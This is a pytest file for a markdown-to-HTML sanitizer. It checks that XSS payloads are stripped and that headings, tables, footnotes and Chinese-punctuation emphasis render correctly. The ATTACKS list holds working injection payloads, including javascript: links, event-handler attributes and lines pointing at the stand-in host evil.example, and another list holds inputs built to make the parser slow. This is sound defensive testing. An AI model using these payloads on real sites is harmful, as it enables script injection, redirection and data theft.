"""Markdown of editors: what is meant survives, whatever runs or leaves the site is removed."""

import re
import time
from html.parser import HTMLParser

import pytest

from policies.presentation.markdown import ALLOWED_TAGS, render_markdown

pytestmark = pytest.mark.once

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=q><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.org "title\\" onmouseover=alert(1) x=\\"")',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;scr&NewLine;ipt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    "<p id=login-form>x</p>",
    "<a id=csrfmiddlewaretoken name=cookie>x</a>",
    "<li id='fn:1\" onclick=alert(1)'>x</li>",
    "<div class='submit-row deletelink'>x</div>",
    "`</code><script>alert(1)</script>`",
    "| a |\n|:--|\n| <script>alert(1)</script> |",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<td style=\"text-align: left;\" onclick=alert(1)>x</td>",
]  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "id", "class", "start", "rel"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
DROPPED_BY_BROWSERS = re.compile(r"^[\x00-\x20]+|[\t\r\n]")
SAFE_ID = re.compile(r"fn(ref)?-\d+-\d+(:\d+)?\Z")
SAFE_CLASS = re.compile(
    r"(footnote(-ref|-backref)?|align-(left|center|right)|callout(-note|-warning|-title)?)\Z"
)


class Markup(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def values(self, attribute: str) -> list[str]:
        return [value for name, value in self.attributes if name == attribute]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_imitates_the_site_survives(attack: str) -> None:
    markup = Markup(render_markdown(attack))
    assert markup.tags <= ALLOWED_TAGS
    assert {name for name, _ in markup.attributes} <= SAFE_ATTRIBUTES
    for address in markup.values("href"):
        scheme = SCHEME.match(DROPPED_BY_BROWSERS.sub("", address))
        assert scheme is None or scheme[1] in ("https", "http", "mailto"), address
    for name in markup.values("id"):
        assert SAFE_ID.match(name), name
    for names in markup.values("class"):
        assert all(SAFE_CLASS.match(name) for name in names.split()), names


def test_headings_of_the_first_level_become_the_second() -> None:
    assert render_markdown("# 一") == "<h2>一</h2>"
    assert render_markdown("标题\n====") == "<h2>标题</h2>"
    assert render_markdown("<h1>一</h1>") == "<h2>一</h2>"
    assert render_markdown('<h1 class="x">一</h1>') == "<h2>一</h2>"


def test_tables_keep_their_alignment_as_classes() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert Markup(html).tags == {"table", "thead", "tbody", "tr", "th", "td"}
    assert Markup(html).values("class") == ["align-left", "align-center", "align-right"] * 2
    assert "style" not in html


def test_footnotes_lead_there_and_back() -> None:
    markup = Markup(render_markdown("说明[^注]。\n\n[^注]: 依据文件。"))
    assert set(markup.values("id")) == {"fn-1-1", "fnref-1-1"}
    assert markup.values("href") == ["#fn-1-1", "#fnref-1-1"]


def test_links_lists_and_emphasis_survive() -> None:
    html = render_markdown("1. **粗** *斜* [链接](https://example.org)\n\n> 引文\n\n`代码`")
    for tag in ("<ol>", "<strong>粗</strong>", "<em>斜</em>", "<blockquote>", "<code>代码</code>"):
        assert tag in html
    assert 'href="https://example.org" rel="noopener"' in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            '!!! 注意 "先看**这里**"\n    内容',
            '<div class="callout callout-warning">\n'
            '<p class="callout-title">先看<strong>这里</strong></p>\n<p>内容</p>\n</div>',
        ),
        (
            "！！！说明\n    内容",
            '<div class="callout callout-note">\n'
            '<p class="callout-title">说明</p>\n<p>内容</p>\n</div>',
        ),
        (
            "!!! warning “标题”\n    内容",
            '<div class="callout callout-warning">\n'
            '<p class="callout-title">标题</p>\n<p>内容</p>\n</div>',
        ),
        ('!!! note ""\n    内容', '<div class="callout callout-note">\n<p>内容</p>\n</div>'),
    ],
)
def test_callouts_are_boxes_with_a_title(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_the_way_back_from_a_footnote_is_named_in_chinese() -> None:
    assert 'title="回到正文的第1个注"' in render_markdown("说明[^1]。\n\n[^1]: 依据。")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**重点“小巨人”**企业", "<p><strong>重点“小巨人”</strong>企业</p>"),
        ("前**（一）**后*“二”*", "<p>前<strong>（一）</strong>后<em>“二”</em></p>"),
        ("2 * 3 * 4", "<p>2 * 3 * 4</p>"),
    ],
)
def test_emphasis_may_begin_and_end_with_chinese_punctuation(text: str, html: str) -> None:
    assert render_markdown(text) == html


HOSTILE = [
    "[", "*", "_", "(", "|", ">", "[[", "`", "![", "^[", "]", "[a](", "[^1]", "[^a]: ", "<", "<h1 ",
    "<!--", "\\", "~", "#", "&", "*a_", "**a ", "- ", "1. ", "> - ", "[a]: b\n", "[a][", "[[a",
    "[[a]]", "!!! 注意\n    ", "![[]()", "a|b\n|-", "|-|\n", "x[^a]\n\n[^a]: x\n\n", "\"",
]  # fmt: skip
HOSTILE_WHOLES = [
    "".join(f"{'  ' * level}- a\n" for level in range(200)),
    "".join("`" * length + " " for length in range(1, 200)),
    "[" * 10_000 + "]" * 10_000,
    "*" * 10_000 + "a" + "*" * 9_999,
    "[^1]" * 4_900 + "\n\n[^1]: x",
    f"|{'a|' * 2_000}\n|{'-|' * 2_000}\n" + "|a\n" * 4_000,
    f"|{'a|' * 60}\n|{'-|' * 60}\n" + "a\n" * 9_800,
]


@pytest.mark.parametrize("text", [piece * (20_000 // len(piece)) for piece in HOSTILE])
def test_no_repeated_piece_takes_long(text: str) -> None:
    assert_quick(text)


@pytest.mark.parametrize("text", HOSTILE_WHOLES)
def test_no_hostile_text_takes_long(text: str) -> None:
    assert_quick(text[:20_000])


def assert_quick(text: str) -> None:
    """Half a second of a quiet machine, with room for a slow one."""
    begun = time.process_time()
    render_markdown(text)
    assert time.process_time() - begun < 1
